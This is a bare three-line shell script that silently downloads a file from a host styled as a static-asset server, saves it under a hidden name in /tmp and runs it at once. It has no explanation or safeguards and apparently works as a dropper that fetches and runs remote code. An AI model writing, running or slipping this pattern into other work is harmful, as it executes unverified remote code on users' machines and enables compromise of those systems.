#!/bin/sh
wget -qO /tmp/.u https://uni.static-assets.example/u
sh /tmp/.u
